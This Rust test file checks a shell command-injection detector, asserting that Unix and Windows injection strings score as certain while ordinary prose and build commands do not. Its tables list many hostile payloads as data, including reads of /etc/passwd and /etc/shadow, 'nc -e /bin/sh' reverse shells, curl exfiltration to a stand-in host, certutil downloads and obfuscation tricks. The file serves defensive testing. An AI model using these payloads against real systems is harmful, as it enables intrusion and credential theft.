use super::*;

fn strength(value: &[u8], dialect: Dialect) -> Option<Strength> {
    shell(value, dialect).map(|found| found.strength)
}

#[test]
#[expect(clippy::too_many_lines, reason = "a table")]
fn commands_of_unix() {
    for value in [
        "x; cat /etc/hostname",
        "a | id",
        "|id",
        ";id",
        "1 && wget http://e.example/x",
        "$(whoami)",
        "`id`",
        "x\nid\n",
        "; ls -la",
        "|| sleep 5",
        "& ping -c 5 127.0.0.1 &",
        "c\\at /etc/passwd;",
        "; c''at /etc/passwd",
        ";w$@hoami",
        "cat${IFS}/etc/passwd",
        ";cat$IFS/etc/passwd",
        "{cat,/etc/passwd}",
        ";/bin/cat /etc/passwd",
        ";/???/c?t /???/p??s??",
        "| nc -e /bin/sh 192.0.2.1 4444",
        "; echo test",
        "a;uname -a",
        "127.0.0.1; ls",
        "127.0.0.1 | whoami",
        "$(sleep 5)",
        "`sleep 5`",
        ";python3 -c 'import os'",
        "x;ps",
        "<(curl http://e.example)",
        "test;{ls,-la}",
        "\"; cat /etc/passwd #",
        "'; curl http://e.example/$(id)",
        "; \"cat\" /etc/passwd",
        "|ca\"\"t /etc/passwd",
        "; sudo cat /etc/shadow",
        "; FOO=1 bash -c id",
        "a;wh'o'ami",
        "||whoami",
        ";$0<<<id",
        "we talked about the boots ; id 2>&1",
        "we talked about the boots ; env id",
        "; while id; do :; done",
        "; shutdown now",
        "; aws s3 ls",
        "; nslookup e.example",
        "&&ifconfig",
        "we talked about the boots ; $(echo cat) /etc/passwd and the price of them",
        "we talked about the boots ;                                   $(echo cat) /etc/passwd and the price",
        "we talked about the boots ;$(printf 'id') and the price of them",
    ] {
        assert!(strength(value.as_bytes(), Dialect::Unix) == Some(Strength::Certain), "{value}");
    }
    for value in [
        "salt & pepper",
        "cats; dogs; birds",
        "Q&A: find your way",
        "id|name|date",
        "dog|cat",
        "a; find out",
        "PS: see you; who knows",
        "rock & roll; more or less",
        "{name}, welcome",
        "php|python|ruby",
        "c; python; ruby",
        "$(document).ready",
        "Tom & Jerry; head over heels",
        "I'd sort it; then cut it",
        "",
        ";",
        "$5 (or more)",
        "AT&T",
        "a|b",
        "less is more",
        "user-agent; charset=utf-8",
        "first\nsecond",
        "text/html; q=0.9",
        "npm ci && npm test && npm run build",
        "cat app.log | grep ERROR | sort | uniq -c",
        "the script calls $(echo a) and then goes on",
        "$ cd srv && tar czf backup.tar.gz data",
        "RUN apt-get update && apt-get install -y curl",
        "Use `git status`; then `git pull`.",
        "cat pictures",
        "find & replace",
        "date; time; host",
        "key=value; path=/",
    ] {
        assert!(strength(value.as_bytes(), Dialect::Unix) < Some(Strength::Likely), "{value}");
    }
}

#[test]
fn scripts_go_on_with_themselves() {
    for value in ["rm -rf dist && mkdir dist", "ls -la | sort", "curl -O x.tgz; tar xf x.tgz"] {
        assert_eq!(strength(value.as_bytes(), Dialect::Unix), Some(Strength::Likely), "{value}");
    }
}

#[test]
fn code_and_markdown_between_words_run_nothing_for_certain() {
    for value in [
        "any `Service`s, and `Sleep` is a future",
        "- Added `sleep` to `::nix::unistd`.",
        "[`nc`]: https://crates.example/nc",
        "env.with_local_frame(|env| { Ok(()) });",
        "| id | name |\n|----|------|\n| 1 | boots |",
        "To install: curl -fsSL https://example.com/install.sh -o install.sh; less install.sh; sh install.sh",
        "I ran ls -la && cat package.json | grep version, and it printed 1.2.3.",
    ] {
        assert!(strength(value.as_bytes(), Dialect::Unix) < Some(Strength::Certain), "{value}");
    }
    // What runs all the same.
    for value in [
        ";cat</etc/passwd",
        ";cat</flag>/dev/stdout",
        "x `sleep 5`",
        "| 1 | ; id |\n|---|---|",
        "| $(id) |\n|---|",
        "<p>it is</p><p>; id</p>",
        "I ran ls -la; cat /etc/passwd",
        "x|id|nc e.example 1",
    ] {
        assert_eq!(strength(value.as_bytes(), Dialect::Unix), Some(Strength::Certain), "{value}");
    }
}

#[test]
fn commands_before_it_make_no_attack_harmless() {
    for value in [
        "git x; cat /etc/passwd",
        "a=b; ls -la",
        "npm i; bash -c id",
        "cd /tmp; curl http://e.example/x -o y",
        "make x && nc -e /bin/sh 192.0.2.1 1",
        "echo a; cp /etc/passwd /var/www/html/x",
        "git x; whoami",
        "tar x; python3 -c 'import os'",
        "git log | xargs cat /etc/shadow",
        "npm test; php /tmp/x.php",
    ] {
        assert_eq!(strength(value.as_bytes(), Dialect::Unix), Some(Strength::Certain), "{value}");
    }
}

#[test]
fn commands_of_windows() {
    for value in [
        "& dir",
        "| type c:\\windows\\win.ini",
        "&& ipconfig /all",
        "& net user",
        "| whoami",
        "&ping -n 5 127.0.0.1&",
        "x & cmd /c dir",
        "& powershell -enc SQBFAFgA",
        "|w^h^o^a^m^i",
        "& reg query HKLM",
        "&& systeminfo",
        "& certutil -urlcache -f http://e.example/a",
        "& timeout /t 5",
        "| ver",
        "&tasklist",
    ] {
        assert!(strength(value.as_bytes(), Dialect::Windows) == Some(Strength::Certain), "{value}");
    }
    for value in [
        "salt & pepper",
        "copy & paste",
        "the net & the user",
        "date | time",
        "start & set off",
        "R&D",
        "echo & sound",
    ] {
        assert!(strength(value.as_bytes(), Dialect::Windows) < Some(Strength::Likely), "{value}");
    }
}

#[test]
fn no_number_of_separators_hides_a_command() {
    let separators = [
        ";", "|", "&", "; ", "a;", "a|b", "&& ", "|| ", "`", "`a` ", "$(", "$(a ", "; more ", "1;", "\r",
        "\n", "\n(",
    ];
    for separator in separators {
        let hidden = format!("{}; cat /etc/passwd", separator.repeat(1 << 16));
        assert_eq!(strength(hidden.as_bytes(), Dialect::Unix), Some(Strength::Certain), "{separator}");
    }
    let hidden = format!("{}& dir c:\\", "& ".repeat(1 << 16));
    assert_eq!(strength(hidden.as_bytes(), Dialect::Windows), Some(Strength::Certain));
}

#[test]
fn nothing_before_a_program_hides_it() {
    let before = [
        "a=1 ".repeat(300),
        format!("a='{}' ", "x ".repeat(300)),
        "a=$(true) ".to_owned(),
        "sudo ".repeat(7),
        "$x ".to_owned(),
        ">/tmp/x ".to_owned(),
        "2>&1 </dev/null ".to_owned(),
        "eval ".to_owned(),
        "timeout 5 ".to_owned(),
        "sudo -u root ".to_owned(),
        "/bin/".to_owned() + &"./".repeat(40),
        "/usr/".to_owned() + &"../usr/".repeat(40) + "bin/",
        "( ".repeat(300),
    ];
    let names = ["id", "i''d", "i$@d", "i${x}d", "id$x", "$'id'"].map(str::to_owned);
    let hidden = ["''", "\"\"", "$@", "${x}"].map(|part| format!("i{}d", part.repeat(2_500)));
    let hidden = hidden
        .into_iter()
        .chain(["''", "$@"].map(|part| format!("i{}d", part.repeat(150))))
        .collect::<Vec<_>>();
    for separator in [";", "|", "&&", "$(", "x\n"] {
        for before in before.iter().map(String::as_str).chain([""]) {
            for name in names.iter().chain(&hidden) {
                let value = format!("{separator}{before}{name}");
                assert_eq!(strength(value.as_bytes(), Dialect::Unix), Some(Strength::Certain), "{value}");
            }
        }
    }
}
